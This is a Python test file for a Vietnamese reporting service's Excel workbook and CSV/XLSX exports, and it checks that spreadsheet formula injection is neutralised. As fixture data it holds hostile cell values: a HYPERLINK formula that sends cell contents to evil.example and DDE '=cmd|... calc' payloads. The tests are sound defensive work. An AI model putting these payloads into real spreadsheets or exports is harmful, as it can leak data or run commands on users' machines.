"""The consolidated workbook and the CSV/XLSX exports (pure: views in, bytes out)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from copy import copy
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from service.outputs.export import export_rows, render_export_csv, render_export_xlsx
from service.outputs.sheets import neutralize, put_text
from service.outputs.workbook import render_workbook
from tests.unit.test_digest import CFG, DAY, YESTERDAY, at, make_cfg, model, msg, scenario, view_of, with_targets

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def hostile() -> list:
    """Units and strangers whose text looks like formulas."""
    return scenario() + [
        msg(
            "YTE",
            at(DAY, 9),
            {("ho_kinh_doanh", "de_nghi"): 41},
            subject=FORMULA,
            problems=(
                ("not_a_number", {"file": "=cmd|'/c calc'!A1.xlsx", "sheet": "S", "cell": "C4", "text": "@SUM(1+1)"}),
            ),
        ),
        msg(
            None,
            at(DAY, 14),
            kind="unassigned",
            sender="+84@evil.example",
            subject="-2+3",
            reason="unknown_sender:+84@evil.example",
        ),
        msg(
            None,
            at(DAY, 14, 5),
            kind="unassigned",
            sender="x@evil.example",
            subject="#N/A\x00\x07bell",
            reason="unknown_sender:x@evil.example",
        ),
    ]


def book(cfg=CFG, messages=None, **kw):
    data = render_workbook(model(cfg, messages, **kw), cfg)
    return data, load_workbook(io.BytesIO(data))


def all_text_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c


def test_sheets_in_vietnamese_and_english():
    _, wb = book()
    assert wb.sheetnames == ["Tổng hợp", "Tình hình báo cáo", "Chi tiết theo đơn vị", "Vấn đề", "Thư chưa gắn đơn vị"]
    _, wb = book(make_cfg("en"))
    assert wb.sheetnames == ["Totals", "Reporting status", "Figures by unit", "Problems", "Unassigned messages"]


def test_print_setup_freeze_panes_and_widths_on_every_sheet():
    _, wb = book()
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
        # one page wide, except the wide detail sheet: a scale and a page per indicator pair
        assert ws.sheet_properties.pageSetUpPr.fitToPage or ws.page_setup.scale >= 60, ws.title
        assert ws.print_title_rows, ws.title
        assert ws.freeze_panes, ws.title
        assert ws.column_dimensions["B"].width > 5, ws.title
    assert wb["Tổng hợp"].freeze_panes == "C9" and wb["Tổng hợp"].print_title_rows == "$7:$8"
    detail = wb["Chi tiết theo đơn vị"]
    assert detail.print_title_cols == "$A:$D" and detail.freeze_panes == "C6"


def test_totals_sheet_values_changes_and_formats():
    _, wb = book()
    ws = wb["Tổng hợp"]
    assert ws["A2"].value == "BÁO CÁO TỔNG HỢP TIẾN ĐỘ NGÀY 11/08/2021"
    assert "Đã báo cáo 3/5 đơn vị (60%)" in ws["A3"].value
    assert ws["C7"].value == "Số đối tượng đề nghị hỗ trợ" and ws["E7"].value == "Kinh phí được phê duyệt (triệu đồng)"
    assert (ws["C8"].value, ws["D8"].value) == ("Lũy kế", "Tăng/giảm")
    assert ws["B9"].value == "Hỗ trợ người lao động ngừng việc"
    assert (ws["C9"].value, ws["D9"].value, ws["E9"].value, ws["F9"].value) == (1284, 1132, 1234.5, 863.5)
    assert ws["C9"].number_format == "#,##0" and ws["E9"].number_format == "#,##0.0#"
    assert ws["D9"].number_format.startswith("+")
    assert ws["B11"].value == "Tổng cộng" and ws["C11"].value == 1284 + 47


def test_a_native_chart_of_reporting_status():
    data, wb = book()
    ws = wb["Tổng hợp"]
    statuses = {ws.cell(r, 2).value: ws.cell(r, 3).value for r in range(14, 19)}
    assert statuses == {"Đúng hạn": 1, "Muộn": 1, "Không đọc được": 1, "Chưa báo cáo": 2, "Tổng cộng": 5}
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert any(n.startswith("xl/charts/chart") for n in names)
    chart_xml = zipfile.ZipFile(io.BytesIO(data)).read(next(n for n in names if n.startswith("xl/charts/")))
    assert b"barChart" in chart_xml and "Tình hình báo cáo ngày 11/08/2021".encode() in chart_xml


def test_no_chart_on_a_day_nobody_has_to_report():
    data, _ = book(messages=scenario(), day=dt.date(2021, 8, 15))
    assert not any(n.startswith("xl/charts/") for n in zipfile.ZipFile(io.BytesIO(data)).namelist())


def test_status_sheet_one_row_per_unit_with_stale_note():
    _, wb = book()
    ws = wb["Tình hình báo cáo"]
    rows = {ws.cell(r, 2).value: [c.value for c in ws[r]] for r in range(5, 10)}
    assert set(rows) == {"BHXH", "YTE", "SONG_CAU", "XUAT_HOA", "NONG_THUONG"}
    assert rows["BHXH"][4] == "Đúng hạn" and rows["BHXH"][5] == "08:05" and rows["BHXH"][8] == 1234.5
    assert rows["SONG_CAU"][4] == "Muộn" and rows["SONG_CAU"][9] == 1  # one problem
    assert rows["YTE"][4] == "Chưa báo cáo" and rows["YTE"][-1] == "Số liệu cũ (ngày 10/08/2021)"
    assert rows["YTE"][6] == dt.datetime(2021, 8, 10)
    assert rows["XUAT_HOA"][-1] == "Chưa có số liệu"
    assert ws.auto_filter.ref == "A4:K9"


def test_detail_sheet_is_one_row_per_unit_and_a_column_per_indicator_and_measure():
    _, wb = book()
    ws = wb["Chi tiết theo đơn vị"]
    assert ws["E4"].value == "Hỗ trợ người lao động ngừng việc" and ws["G4"].value == "Hỗ trợ hộ kinh doanh"
    assert [ws.cell(5, c).value for c in range(5, 9)] == [
        "Số đối tượng đề nghị hỗ trợ",
        "Kinh phí được phê duyệt (triệu đồng)",
    ] * 2
    rows = {ws.cell(r, 2).value: [c.value for c in ws[r]][2:8] for r in range(6, ws.max_row + 1)}
    assert rows["Phòng, ban, ngành"] == [None] * 6  # a group row
    assert rows["Bảo hiểm xã hội thành phố"] == ["Đúng hạn", dt.datetime(2021, 8, 11), 1234, 1234.5, None, None]
    assert rows["Phòng Y tế"] == ["Chưa báo cáo", dt.datetime(2021, 8, 10), None, None, 40, None]
    assert rows["Tổng cộng"][2:] == [1284, 1234.5, 47, None]


def test_problems_and_unassigned_sheets():
    _, wb = book(messages=hostile())
    problems = wb["Vấn đề"]
    codes = {problems.cell(r, 5).value for r in range(4, problems.max_row + 1)}
    assert {"cumulative_decrease", "no_attachment", "not_a_number"} <= codes
    unassigned = wb["Thư chưa gắn đơn vị"]
    senders = [unassigned.cell(r, 3).value for r in range(4, unassigned.max_row + 1)]
    assert senders[:3] == ["ldtbxh.huyenkhac@example.org", "+84@evil.example", "x@evil.example"]
    assert unassigned.cell(4, 2).value == dt.datetime(2021, 8, 11, 13, 45)
    assert unassigned.cell(unassigned.max_row, 7).value == "Thư tự động"


def test_text_that_looks_like_a_formula_is_never_a_formula():
    data, wb = book(messages=hostile())
    texts = [(title, c) for title, c in all_text_cells(wb) if isinstance(c.value, str)]
    assert any(c.value == "+84@evil.example" for _, c in texts)
    assert any(c.value.startswith("Tệp =cmd|") for _, c in texts)
    for title, c in texts:
        assert c.data_type == "s", (title, c.coordinate, c.value)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [name for name in z.namelist() if name.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(wb.worksheets)
        for name in sheets:
            assert b"<f>" not in z.read(name), name
    leading = [c for _, c in texts if c.value.startswith(("=", "+", "-", "@"))]
    assert leading and all(c.quotePrefix for c in leading)


def test_control_characters_and_error_lookalikes_are_plain_text():
    ws = Workbook().active
    cell = put_text(ws["A1"], "#N/A\x00\x07x")
    assert cell.value == "#N/A  x" and cell.data_type == "s"


@pytest.mark.parametrize(
    "text, safe",
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Phòng Y tế", "Phòng Y tế"),
        ("", ""),
        (None, ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralize(text, safe):
    assert neutralize(text) == safe


# -- exports ------------------------------------------------------------------------------------


def views():
    messages = hostile()
    return [view_of(CFG, YESTERDAY, messages), view_of(CFG, DAY, messages)]


def test_export_rows_long_format_money_in_dong():
    headers, rows = export_rows(views(), CFG)
    assert headers[0] == "Ngày" and len(headers) == 11
    bhxh = [r for r in rows if r[0] == DAY and r[1] == "BHXH"]
    assert [r[6:] for r in bhxh] == [
        ["ngung_viec", "Hỗ trợ người lao động ngừng việc", "de_nghi", "Số đối tượng đề nghị hỗ trợ", Decimal(1234)],
        [
            "ngung_viec",
            "Hỗ trợ người lao động ngừng việc",
            "kinh_phi",
            "Kinh phí được phê duyệt",
            Decimal(1_234_500_000),
        ],
    ]
    assert bhxh[0][4] == "Đúng hạn" and bhxh[0][5] == at(DAY, 8, 5)
    # a unit without figures of its own that day still has its row
    [nong] = [r for r in rows if r[0] == DAY and r[1] == "NONG_THUONG"]
    assert nong[4] == "Chưa báo cáo" and nong[5] is None and nong[6:] == [None] * 5


def test_csv_export_has_a_bom_and_neutralised_text():
    data = render_export_csv(views(), CFG)
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Ngày", "Mã đơn vị", "Đơn vị"]
    bhxh = [r for r in rows if r[:2] == ["2021-08-11", "BHXH"]]
    assert bhxh[0][5] == "2021-08-11 08:05:00" and bhxh[1][10] == "1234500000"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row[:10])


def test_csv_neutralises_unit_names_that_look_like_formulas():
    from service.config import UnitConfig

    cfg = make_cfg(units=(UnitConfig("EVIL", "=cmd|' /C calc'!A0", "-nhóm", senders=("e@x.vn",)),))
    rows = list(csv.reader(io.StringIO(render_export_csv([view_of(cfg, DAY, [])], cfg).decode("utf-8-sig"))))
    assert rows[1][2] == "'=cmd|' /C calc'!A0" and rows[1][3] == "'-nhóm"


def test_xlsx_export_opens_with_text_never_a_formula():
    from service.config import UnitConfig

    cfg = make_cfg(units=(*CFG.units, UnitConfig("EVIL", "=1+1", None, senders=("e@x.vn",))))
    data = render_export_xlsx([view_of(cfg, DAY, scenario())], cfg)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "Số liệu" and ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:K")
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    bhxh = [r for r in rows if r[1] == "BHXH"]
    assert bhxh[0][0] == dt.datetime(2021, 8, 11) and bhxh[0][5] == dt.datetime(2021, 8, 11, 8, 5)
    assert bhxh[1][10] == 1_234_500_000
    evil = next(r for r in ws.iter_rows(min_row=2) if r[1].value == "EVIL")
    assert evil[2].value == "=1+1" and evil[2].data_type == "s"


def test_xlsx_export_texts_are_shared_strings_read_alike_by_openpyxl_and_calamine():
    """The data rows' texts are written once in xl/sharedStrings.xml (its relationship and
    content type declared) and read back as the same text, odd ones included."""
    from python_calamine import CalamineWorkbook

    from service.config import UnitConfig

    odd = (
        UnitConfig("SP", '  Xã <Phúc> & "Lộc"  ', " nhóm ", senders=("s@x.vn",)),
        UnitConfig("EVIL", "=1+1", "@g", senders=("e@x.vn",)),
    )
    cfg = make_cfg(units=(*CFG.units, *odd))
    data = render_export_xlsx([view_of(cfg, DAY, scenario())], cfg)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert 't="s"' in sheet and "Phúc" not in sheet
        assert b"sharedStrings+xml" in z.read("[Content_Types].xml")
        assert b'Target="sharedStrings.xml"' in z.read("xl/_rels/workbook.xml.rels")
    by_openpyxl = [[c.value for c in r] for r in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=False)]
    by_calamine = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    texts = [(v, w) for r, q in zip(by_openpyxl, by_calamine) for v, w in zip(r, q) if isinstance(v, str)]
    assert texts and all(v == w for v, w in texts)
    names = {r[1]: (r[2], r[3]) for r in by_openpyxl[1:]}
    assert names["SP"] == ('  Xã <Phúc> & "Lộc"  ', " nhóm ") and names["EVIL"] == ("=1+1", "@g")


def test_money_values_keep_every_dong_in_the_workbook():
    messages = [msg("BHXH", at(DAY, 8), {("ngung_viec", "kinh_phi"): 1_234_567})]
    _, wb = book(messages=messages)
    assert wb["Tổng hợp"]["E9"].value == pytest.approx(1.234567)


# -- progress against the campaign's targets ------------------------------------------------------


def test_progress_sheet_after_the_totals_with_ratios_formatted_as_percent():
    _, wb = book(with_targets())
    assert wb.sheetnames[:3] == ["Tổng hợp", "Tiến độ", "Tình hình báo cáo"]
    ws = wb["Tiến độ"]
    assert ws["A1"].value == "TIẾN ĐỘ SO VỚI KẾ HOẠCH NGÀY 11/08/2021"
    assert ws["A2"].value == "Còn 14 ngày đến hạn 25/08/2021."
    head = 5
    assert [c.value for c in ws[head]] == [
        "STT",
        "Mã đơn vị",
        "Đơn vị",
        "Chỉ tiêu",
        "Cột",
        "Đã thực hiện",
        "Kế hoạch",
        "Tỷ lệ",
    ]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=head + 1)]
    # campaign totals first, then each unit's cells; money in triệu đồng as on the other sheets
    assert [r[1:] for r in rows] == [
        [
            None,
            "Tổng cộng",
            "Hỗ trợ người lao động ngừng việc",
            "Số đối tượng đề nghị hỗ trợ",
            1284,
            2040,
            pytest.approx(1284 / 2040),
        ],
        [
            None,
            "Tổng cộng",
            "Hỗ trợ người lao động ngừng việc",
            "Kinh phí được phê duyệt (triệu đồng)",
            1234.5,
            1500,
            pytest.approx(0.823),
        ],
        [None, "Tổng cộng", "Hỗ trợ hộ kinh doanh", "Số đối tượng đề nghị hỗ trợ", 47, 100, pytest.approx(0.47)],
        [
            "BHXH",
            "Bảo hiểm xã hội thành phố",
            "Hỗ trợ người lao động ngừng việc",
            "Số đối tượng đề nghị hỗ trợ",
            1234,
            2000,
            pytest.approx(0.617),
        ],
        [
            "BHXH",
            "Bảo hiểm xã hội thành phố",
            "Hỗ trợ người lao động ngừng việc",
            "Kinh phí được phê duyệt (triệu đồng)",
            1234.5,
            1500,
            pytest.approx(0.823),
        ],
        ["YTE", "Phòng Y tế", "Hỗ trợ hộ kinh doanh", "Số đối tượng đề nghị hỗ trợ", 40, 80, 0.5],
        [
            "SONG_CAU",
            "UBND phường Sông Cầu",
            "Hỗ trợ người lao động ngừng việc",
            "Số đối tượng đề nghị hỗ trợ",
            50,
            40,
            1.25,
        ],
    ]
    assert {ws.cell(r, 8).number_format for r in range(head + 1, ws.max_row + 1)} == {"0.0%"}
    assert ws.cell(head + 2, 6).number_format == "#,##0.0#" and ws.cell(head + 1, 6).number_format == "#,##0"
    assert ws.cell(head + 7, 8).fill.fgColor.rgb.endswith("E6F4EA")  # SONG_CAU is past its target
    assert ws.cell(head + 6, 3).font.i  # YTE's figures are from yesterday
    assert ws.freeze_panes == "D6" and ws.auto_filter.ref == "A5:H12"


def test_progress_sheet_in_english():
    _, wb = book(with_targets(make_cfg("en")))
    assert wb.sheetnames[1] == "Progress" and wb["Progress"]["H5"].value == "Progress"
    assert wb["Progress"]["A2"].value == "14 days left until the 25/08/2021 deadline."


# -- put_cell's cells, saved by save_fast, against openpyxl's own cells and save ------------


def _reference_cell(ws, row, col, value, font, fill=None, fmt=None, align=None, border=None):
    """One styled cell the plain openpyxl way (the text through put_text)."""
    from service.day.dayview import number
    from service.outputs.sheets import BOX, WRAP

    cell = ws.cell(row, col)
    if isinstance(value, str):
        put_text(cell, value)
    elif isinstance(value, Decimal):
        cell.value = number(value)
    elif value is not None:
        cell.value = value
    cell.font = font
    cell.alignment = align or WRAP
    border = BOX if border is None else border
    if border != "none":
        cell.border = border
    if fill is not None:
        cell.fill = fill
    if fmt is not None:
        cell.number_format = fmt


def test_put_cell_workbook_saves_as_openpyxl_saves_its_own_cells():
    from service.outputs import sheets as s

    cells = [
        (1, 1, 'Tiêu đề <b>&</b> "q" \'x\r\ny\x01z ', s.TITLE, None, None, s.CENTER, "none"),
        (3, 1, "STT", s.HEAD, s.HEAD_FILL, None, s.CENTER, None),
        (4, 1, None, s.HEAD, s.HEAD_FILL, None, s.CENTER, None),
        (3, 2, "Chỉ tiêu", s.HEAD, s.HEAD_FILL, None, s.CENTER, None),
        (3, 3, None, s.HEAD, s.HEAD_FILL, None, s.CENTER, None),
        (5, 1, 1, s.REGULAR, None, None, s.CENTER, None),
        (5, 2, "=SUM(A1:A4)", s.REGULAR, s.ZEBRA_FILL, None, None, None),
        (5, 3, Decimal("1234567.5"), s.BOLD, s.TOTAL_FILL, s.MONEY_FORMAT, s.RIGHT, None),
        (5, 4, 12.25, s.REGULAR, None, s.MONEY_FORMAT, s.RIGHT, None),
        (5, 5, dt.date(2021, 8, 12), s.MUTED, None, s.DATE_FORMAT, s.CENTER, None),
        (6, 5, dt.date(2021, 8, 11), s.MUTED, None, s.DATE_FORMAT, s.CENTER, None),
        (6, 6, dt.datetime(2021, 8, 12, 16, 5, 7), s.REGULAR, None, s.DATETIME_FORMAT, s.CENTER, None),
        (6, 1, 2**60, s.REGULAR, None, s.COUNT_FORMAT, s.RIGHT, None),
        (6, 2, "", s.REGULAR, s.ZEBRA_FILL, None, None, None),
        (6, 3, None, s.REGULAR, s.ZEBRA_FILL, None, None, None),
        (6, 4, True, s.REGULAR, None, None, None, None),
        (7, 2, "-2+3", s.MUTED, None, None, None, None),
        (7, 3, " x ", s.MUTED, None, None, None, None),
    ]
    merges = [(1, 1, 1, 6), (3, 1, 4, 1), (3, 2, 3, 3)]

    fast, reference = Workbook(), Workbook()
    for wb in (fast, reference):
        wb.active.title = "Trang tính"
        wb.create_sheet("Trống")
    for row, col, value, font, fill, fmt, align, border in cells:
        s.put_cell(
            fast.active,
            row,
            col,
            value,
            font,
            fill=fill,
            fmt=fmt,
            align=align or s.WRAP,
            border=None if border == "none" else s.BOX,
        )
        _reference_cell(reference.active, row, col, value, font, fill, fmt, align, border)
    for first_row, first_col, last_row, last_col in merges:
        s.merge(fast.active, first_row, first_col, last_row, last_col)
        reference.active.merge_cells(start_row=first_row, start_column=first_col, end_row=last_row, end_column=last_col)
    s.set_widths(fast.active, [6, 30, 12])
    s.set_widths(reference.active, [6, 30, 12])
    s.fit_row(fast.active, 7, [("x" * 100, 10)])
    s.fit_row(reference.active, 7, [("x" * 100, 10)])
    s.freeze(fast.active, 5, 3)
    reference.active.freeze_panes = reference.active.cell(5, 3)
    s.freeze(fast["Trống"], 2, 2)  # nothing written there: the corner cell is made, empty
    reference["Trống"].freeze_panes = reference["Trống"].cell(2, 2)

    # the same file as openpyxl's cells written by save_fast (byte for byte) ...
    data = s.save_fast(fast)
    mine, theirs = zipfile.ZipFile(io.BytesIO(data)), zipfile.ZipFile(io.BytesIO(s.save_fast(reference)))
    assert mine.namelist() == theirs.namelist()
    for name in theirs.namelist():
        if name != "docProps/core.xml":  # its creation time
            assert mine.read(name) == theirs.read(name), name
    # ... and as openpyxl saves them itself, cell by cell (it writes the text differently)
    own = load_workbook(io.BytesIO(s._save(reference)))
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        other = own[ws.title]
        assert (ws.dimensions, ws.freeze_panes, ws.merged_cells.ranges) == (
            other.dimensions,
            other.freeze_panes,
            other.merged_cells.ranges,
        )
        for row, row_other in zip(ws.iter_rows(), other.iter_rows(), strict=True):
            for a, b in zip(row, row_other, strict=True):
                assert (a.value, a.data_type, a.number_format, a.quotePrefix) == (
                    b.value,
                    b.data_type,
                    b.number_format,
                    b.quotePrefix,
                ), a.coordinate
                for part in ("font", "fill", "alignment", "border"):  # (copies: a style proxy is no style)
                    assert copy(getattr(a, part)) == copy(getattr(b, part)), (a.coordinate, part)
    ws = load_workbook(io.BytesIO(data))["Trang tính"]
    assert ws["B5"].value == "=SUM(A1:A4)" and ws["B5"].data_type == "s" and ws["B5"].quotePrefix
    assert ws["A1"].value == 'Tiêu đề <b>&</b> "q" \'x\r\ny z '


def test_xlsx_export_rows_made_once_per_value_are_the_rows_written_one_by_one():
    """The export's data rows, each cell's XML made once per column and value, are the
    XML `_row_xml` writes row by row: repeated and equal values (1 and 1.0, the same
    instant), missing cells, hostile text, rows of another length (the last column's
    figure format moves with it)."""
    from openpyxl import Workbook as WriteOnlyBook

    from service.outputs.export_xlsx import _row_xml, _rows_xml, _RowStyles

    ws = WriteOnlyBook(write_only=True).create_sheet("x")
    styles = _RowStyles(ws)
    ict = dt.timezone(dt.timedelta(hours=7))
    when = dt.datetime(2021, 8, 11, 8, 5, tzinfo=ict)
    rows = [
        [DAY, "A", "=1+1", None, when, Decimal("1.0")],
        [DAY, "A", "=1+1", None, when.astimezone(ict), Decimal("1")],
        [DAY, "B\x00<&>\r", " spaced ", "", None, Decimal("2.5")],
        [DAY, "C", Decimal("7")],
        [DAY, "C", Decimal("7"), None, None, None],
        [YESTERDAY, "A", "\x01", 3, 3.5, True],
    ]
    expected = "".join(_row_xml(r, n, styles) for n, r in enumerate(rows, start=2))
    assert "".join(_rows_xml(rows, styles)) == expected
    assert "\x00" not in expected and 't="s"' in expected


def test_xlsx_export_rows_of_groups_are_the_rows_joined():
    """The rows written by groups (a head's cells joined once, a tail's leading texts once)
    are the rows `head + tail` written one by one, the shared strings numbered alike:
    heads and tails of other lengths, missing and equal values, hostile text."""
    from openpyxl import Workbook as WriteOnlyBook

    from service.outputs.export_xlsx import _groups_xml, _rows_xml, _RowStyles

    ict = dt.timezone(dt.timedelta(hours=7))
    when = dt.datetime(2021, 8, 11, 8, 5, tzinfo=ict)
    groups = [
        ([DAY, "A", "=1+1"], [["i", "Chỉ tiêu", Decimal("1.0")], ["i", "Chỉ tiêu", Decimal("1")], ["j", "x", 2]]),
        ([DAY, "B\x00<&>\r", " spaced "], [[None, None, None], ["i", "Chỉ tiêu", None]]),
        ([YESTERDAY, "A", when], [["i", "Chỉ tiêu"], ["i", "Chỉ tiêu", 3.5, True], []]),
        ([DAY, "C", ""], [["i", "=1+1", Decimal("7")]]),
    ]
    rows = [head + tail for head, tails in groups for tail in tails]
    by_rows = _RowStyles(WriteOnlyBook(write_only=True).create_sheet("x"))
    by_groups = _RowStyles(WriteOnlyBook(write_only=True).create_sheet("x"))
    expected = "".join(_rows_xml(rows, by_rows))
    assert "".join(_groups_xml(groups, by_groups)) == expected
    assert by_groups.strings == by_rows.strings and len(by_rows.strings) > 5


def test_put_numbers_rows_are_the_cells_put_one_by_one():
    # put_numbers looks a row's styles and texts up in C once it has met each column's
    # styles; the same file as put_cell cell by cell, whatever the row holds
    from service.outputs import sheets as s

    formats = ((s.MONEY_FORMAT, s.COUNT_FORMAT), (s.COUNT_FORMAT, s.COUNT_FORMAT), (s.MONEY_FORMAT, s.COUNT_FORMAT))
    rows = [
        [1, 2.5, None],
        [1.0, 1, 3],  # an int and an equal float: one text, two formats
        [None, None, None],
        [2**60, 0.1, -7],
        [12.25, 3, 1e-7],
        [Decimal("2.5"), 1, True],  # not ints, floats or None: put_cells
        [4, 5],  # fewer values than formats
        [7, 8.5, 9],  # over a merged range (openpyxl's cells)
        [1, 2, 3],
    ]
    fast, slow = Workbook(), Workbook()
    for wb in (fast, slow):
        s.put_cell(wb.active, 9, 3, "gộp")
        s.merge(wb.active, 9, 3, 9, 4)
    for i, values in enumerate(rows, start=1):
        fill = s.ZEBRA_FILL if i % 2 else None
        font = s.MUTED if i == 4 else s.REGULAR
        s.put_numbers(fast.active, i, 2, values, font, fill, formats, align=s.RIGHT)
        for k, (value, pair) in enumerate(zip(values, formats)):
            fmt = pair[value.__class__ is int]
            s.put_cell(slow.active, i, 2 + k, value, font, fill=fill, fmt=fmt, align=s.RIGHT)
    assert fast.active.__dict__["_baocao_cells"].number_styles  # (the rows after the first were looked up)
    mine, theirs = zipfile.ZipFile(io.BytesIO(s.save_fast(fast))), zipfile.ZipFile(io.BytesIO(s.save_fast(slow)))
    assert mine.namelist() == theirs.namelist()
    for name in theirs.namelist():
        if name != "docProps/core.xml":  # its creation time
            assert mine.read(name) == theirs.read(name), name
    ws = load_workbook(io.BytesIO(s.save_fast(fast))).active
    assert [ws.cell(2, c).value for c in (2, 3, 4)] == [1, 1, 3]
    assert [ws.cell(2, c).number_format for c in (2, 3, 4)] == [s.MONEY_FORMAT, s.COUNT_FORMAT, s.COUNT_FORMAT]
    assert ws.dimensions == "B1:D9"


def test_values_json_with_the_numbers_met_so_far_is_values_json():
    from service.outputs.export import values_json

    rows = [
        {"a": {"x": Decimal("1.0"), "y": Decimal("2.50")}, "b": {"z": Decimal("-0")}},
        {"b": {"z": Decimal("0"), "w": Decimal("1")}, "a": {"y": Decimal("2.5"), "x": Decimal("1E+2")}},
        {"c": {}, "a": {"x": Decimal("-3.25")}},
    ]
    numbers: dict = {}
    for values in rows:
        shared = values_json(values, numbers)
        assert json.dumps(shared) == json.dumps(values_json(values))  # keys in order, same numbers
    assert json.dumps(values_json(rows[1], numbers)) == '{"b": {"z": 0, "w": 1}, "a": {"y": 2.5, "x": 100}}'
